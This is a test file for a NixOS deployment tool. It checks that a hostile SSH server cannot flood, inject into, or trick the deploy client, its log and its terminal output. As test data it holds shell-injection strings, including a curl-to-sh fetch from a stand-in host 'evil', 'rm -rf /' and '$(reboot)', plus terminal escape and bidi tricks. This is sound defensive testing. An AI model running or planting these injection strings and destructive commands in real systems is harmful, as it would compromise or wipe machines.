// A machine that is broken or somebody else's cannot harm the computer that deploys to it: whatever it answers over a
// real SSH connection is bounded, is refused when it is not what the scripts answer, and reaches terminal, log and
// advice only as harmless text. That sshd and ssh of other versions behave so is not shown.
import assert from "node:assert/strict";
import fs from "node:fs";
import path from "node:path";
import { checkMachine } from "../../cli/diagnostics/machine";
import { printed } from "../../cli/common/result";
import { realContext } from "../../cli/common/context";
import { commandOnMachine, ConnectionFailed, Machine } from "../../components/deploy/machine.mjs";
import { hostName, PrivateFolder } from "../../components/deploy/privateFolder.mjs";
import { Processes } from "../../components/deploy/process.mjs";
import { readSettings } from "../../components/deploy/settings.mjs";
import { writeSshFiles } from "../../components/deploy/ssh.mjs";
import { failureOf, runProgram, temporaryFolder } from "../deploy/support";
import { requireOrSkip } from "../require";
import { HostileMachine, whyNoMachine } from "../support/hostileMachine";

const STORE_PATH = `/nix/store/${"a".repeat(32)}-nixos-system`;
const DERIVATION = `/nix/store/${"b".repeat(32)}-nixos-system.drv`;
/** What a terminal obeys, or what hides a part of a line. */
// eslint-disable-next-line no-control-regex
const OBEYED = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe("a hostile machine", function () {
  let folder: string;
  let machine: HostileMachine;
  let env: NodeJS.ProcessEnv;
  let privateFolder: PrivateFolder;
  let asked: Machine;
  let heard: number;

  before(async function () {
    requireOrSkip(this, "sshd", whyNoMachine() === "", whyNoMachine());
    folder = fs.mkdtempSync("/tmp/hostile-machine-");
    machine = await HostileMachine.start(folder);
    env = {
      PATH: process.env["PATH"],
      HOME: folder,
      XDG_STATE_HOME: path.join(folder, "state"),
      DEPLOY_HOST: "127.0.0.1",
      DEPLOY_PORT: String(machine.port),
      DEPLOY_HOST_KEY: machine.host.publicKey,
      DEPLOY_PRIVATE_KEY: machine.login.privateKey,
      DEPLOY_DERIVATION: DERIVATION,
      DEPLOY_FLAKE: "github:octo/server#default",
      DEPLOY_WAIT_SECONDS: "4",
    };
  });
  after(async () => {
    await machine?.stop();
    if (folder) fs.rmSync(folder, { recursive: true });
  });
  beforeEach(() => {
    heard = 0;
    privateFolder = new PrivateFolder({ XDG_RUNTIME_DIR: folder });
    const config = writeSshFiles(readSettings(env), privateFolder);
    const processes = new Processes({ PATH: env["PATH"] }, (line: string) => void (heard += line.length));
    asked = new Machine(processes, "127.0.0.1", config);
  });
  afterEach(() => privateFolder?.remove());

  const deploys = () => runProgram("deploy.mjs", folder, env);
  const log = () => {
    const logs = path.join(folder, "state/pulumi-nixos/logs");
    return fs.readFileSync(path.join(logs, fs.readdirSync(logs).sort().at(-1)!), "utf8");
  };

  for (const [how, script] of [
    ["in lines", "yes 'nixos-deploy system /nix/store/x'"],
    ["in one line", "tr '\\0' x </dev/zero"],
    ["of NULs", "cat /dev/zero"],
    ["on standard error", "cat /dev/zero >&2"],
    ["on both", "yes y & yes n >&2"],
  ] as const) {
    // Fault 77
    it(`that never stops talking, ${how}, is cut off`, async () => {
      machine.does(script);
      const error = await failureOf(() => asked.probe());
      assert.equal(error.message, "The machine's answer cannot be used: it does not end.");
      assert.ok(heard < 4 * 2 ** 20, `${heard} characters are kept`);
    });
  }

  it("that floods every answer cannot make a deployment keep what it says, nor wait longer than it would", async () => {
    machine.does("cat /dev/zero >&2 & yes");
    const { code, stderr } = await deploys();
    assert.equal(code, 1);
    assert.match(stderr, /The machine is not ready: The machine's answer cannot be used: it does not end\./);
    assert.ok(log().length < 20 * 2 ** 20);
    assert.doesNotMatch(log(), OBEYED);
  });

  const hostile: [string, () => Promise<unknown>, string[], RegExp][] = [
    ["a path that a shell would run", () => asked.probe(), ["system /nix/store/$(reboot)"], /"system" is/],
    ["a path that is none of the store's", () => asked.probe(), ["system /etc/passwd"], /"system" is/],
    ["an answer twice", () => asked.probe(), [`system ${STORE_PATH}`, `system ${STORE_PATH}`], /says "system" twice/],
    ["a state that is none", () => asked.probe(), ["guard armed; reboot"], /"guard" is/],
    ["a lease that is none", () => asked.probe(), ["lease x 1 \u001b]0;title\u0007"], /"lease" is/],
    ["nothing at all", () => asked.probe(), [], /it lacks "probed" after "probe"/],
    ["no word of the lease", () => asked.takeLease("-"), ["guard none"], /it lacks "leased" or "held"/],
    [
      "another deployment's lease",
      () => asked.takeLease("-"),
      ["leased 0123456789abcdef01234567"],
      /another deployment/,
    ],
    ["a build of another place", () => asked.build(DERIVATION, []), [`built /nix/store/x' ; reboot; '`], /"built" is/],
    ["a way back that is none", () => asked.arm(STORE_PATH, "-", readSettings(env)), ["armed /"], /"armed" is/],
    [
      "a unit that a shell would run",
      () => asked.confirm(STORE_PATH, readSettings(env)),
      ["guard confirmed 4", "failed-unit $(curl${IFS}evil|sh).service"],
      /"failed-unit" is/,
    ],
    [
      "a unit with spaces",
      () => asked.confirm(STORE_PATH, readSettings(env)),
      ["guard confirmed 4", "failed-unit a; rm -rf /"],
      /"failed-unit" is/,
    ],
    ["a token that is none", () => asked.takeLease("-"), ["guard-token ';reboot;'"], /"guard-token" is/],
  ];
  for (const [what, ask, lines, expected] of hostile) {
    // Fault 78
    it(`that answers ${what} is refused`, async () => {
      machine.answers(...lines.map((line) => `nixos-deploy ${line}`));
      const error = await failureOf(ask);
      assert.equal(error.name, "StrangeAnswer", error.stack);
      assert.match(error.message, expected);
      assert.doesNotMatch(error.message, OBEYED);
      assert.ok(error.message.length < 1000);
    });
  }

  it("that answers in bytes which are no text is heard as far as it makes sense", async () => {
    machine.does(`cat >/dev/null; printf 'nixos-deploy guard \\xff\\xfe\\nnixos-deploy probed \\n'`);
    assert.match((await failureOf(() => asked.probe())).message, /"guard" is/);
    machine.does(`cat >/dev/null; printf '\\xc3\\x28\\0\\nnixos-deploy probed \\n'`);
    assert.equal((await asked.probe()).has("probed"), true);
  });

  it("that ends the connection instead of answering is a matter of the connection", async () => {
    machine.does("cat >/dev/null; exit 255");
    assert.ok((await failureOf(() => asked.probe())) instanceof ConnectionFailed);
  });

  it("that sends a line without end as its reason is quoted in part", async () => {
    machine.does(`cat >/dev/null; head -c 300000 /dev/zero | tr '\\0' y >&2; exit 255`);
    const error = await failureOf(() => asked.probe());
    assert.ok(error.message.length < 1000, `${error.message.length}`);
  });

  it("that answers what it should is understood", async () => {
    const lines = [`key ${machine.login.publicKey} root@nixos`, `system ${STORE_PATH}`, "upgrade inactive", "probed "];
    machine.answers("Welcome!", ...lines.map((line) => `nixos-deploy ${line}`));
    assert.equal((await asked.probe()).get("system"), STORE_PATH);
    const units = ["-.mount", String.raw`dev-disk-by\x2dlabel-nixos.swap`, "getty@tty1.service", "a:b.service"];
    machine.answers("nixos-deploy guard confirmed 4", ...units.map((unit) => `nixos-deploy failed-unit ${unit}`));
    assert.deepEqual((await asked.confirm(STORE_PATH, readSettings(env))).all("failed-unit"), units);
  });

  // Fault 79
  it("cannot send the terminal or the log anything that they obey", async () => {
    const tricks = String.raw`\e]0;title\a\e[2J\e[31mred\e[0m\r\xc2\x9b31m \u202egnp.exe \e]8;;http://x\e\\link`;
    machine.does(`cat >/dev/null; printf '${tricks}\\n' >&2; printf '${tricks}\\n'; exit 3`);
    const { code, stderr } = await deploys();
    assert.equal(code, 1);
    assert.match(stderr, /probe ended with exit code 3/);
    assert.doesNotMatch(stderr, OBEYED);
    assert.doesNotMatch(log(), OBEYED);
    assert.match(log(), /title/);
  });

  it("that says for ever that a dead deployment has it is given up in time", async () => {
    const answers = [`key ${machine.login.publicKey}`, `system ${STORE_PATH}`, "probed "].map(
      (line) => `echo 'nixos-deploy ${line}'`,
    );
    const held = `echo "nixos-deploy held t$RANDOM 1790000000 me@${hostName()} process 4194305"`;
    machine.does(`case $(cat) in *"{ 'probe'"*) ${answers.join("; ")} ;; *"{ 'take_lease'"*) ${held} ;; esac`);
    const { code, stderr } = await deploys();
    assert.equal(code, 1);
    assert.match(stderr, /^The machine is not free: another deployment is under way: me@\S+ process 4194305\.$/m);
  });

  it("cannot put a line of its own among those of a deployment", async () => {
    machine.answers("nixos-deploy held x 1790000000 me@there process 1\rdone: the machine already runs it", "");
    await failureOf(() => asked.takeLease("-"));
    machine.answers("nixos-deploy held x 1790000000 me@there $(reboot)");
    assert.match((await failureOf(() => asked.takeLease("-"))).message, /"held" is/);
  });

  // Fault 80
  it("is reported by the doctor as what it is, in bounds", async () => {
    const address = {
      host: "127.0.0.1",
      port: machine.port,
      hostKey: machine.host.publicKey,
      loginKey: machine.login.privateKey,
    };
    const expected = { ageRecipients: [], access: "deploy-key", branch: "main", revision: "", secretsFile: false };
    const report = async () =>
      printed(await checkMachine(realContext({ folder, env: { PATH: env["PATH"], HOME: folder } }), address, expected));
    machine.does("yes");
    assert.match(await report(), /FAIL {2}login .*ssh printed more than 1 MiB, and was ended/);

    const deep = `{"error":${"[".repeat(3000)}${"]".repeat(3000)}}`;
    machine.answers(
      "disk\t1; rm -rf /",
      "failed-units\t$(reboot).service",
      "key-mode\t400 root",
      "key-mode\t777 nobody",
      `probe\t${deep}`,
      `state\t{"error":{"message":"\u202e\u009b31m${"x".repeat(5000)}\\nok    all  fine"}}`,
    );
    const text = await report();
    assert.match(text, /the machine says what it cannot mean: failed-units, disk, key-mode|cannot mean: /);
    for (const name of ["disk", "failed-units", "key-mode"]) assert.match(text, new RegExp(`cannot mean: .*${name}`));
    assert.doesNotMatch(text, OBEYED);
    assert.doesNotMatch(text, /\$\(reboot\)|rm -rf/);
    assert.doesNotMatch(text, /^\s*ok {4}all/m);
    assert.ok(text.length < 10_000, `${text.length}`);
  });
});

describe("a command that a person is advised to run on the machine", () => {
  for (const words of [
    ["systemctl", "status", "--", "nginx.service"],
    ["echo", "$(touch pasted)", "`touch pasted`", "; touch pasted", "a b", "it's", String.raw`\x2d`],
  ]) {
    it(`runs just these words there: ${words.join(" ")}`, async () => {
      const folder = temporaryFolder();
      try {
        // ssh hands one text to the machine's shell, as this one does.
        const shell = `ssh() { shift; sh -c "$*"; }; systemctl() { printf '%s\\n' "$@"; }; export -f systemctl; `;
        const processes = new Processes({ PATH: process.env["PATH"] });
        const command = commandOnMachine("192.0.2.7", words[0] === "echo" ? ["printf", "%s\\n", ...words] : words);
        assert.match(command, /^ssh root@192\.0\.2\.7 /);
        if (words[0] !== "echo") return assert.equal(command, `ssh root@192.0.2.7 ${words.join(" ")}`);
        const { stdout } = await processes.run("bash", ["-c", `cd '${folder}'; ${shell}${command}`]);
        assert.deepEqual(stdout.trimEnd().split("\n"), words);
        assert.deepEqual(fs.readdirSync(folder), []);
      } finally {
        fs.rmSync(folder, { recursive: true });
      }
    });
  }
});
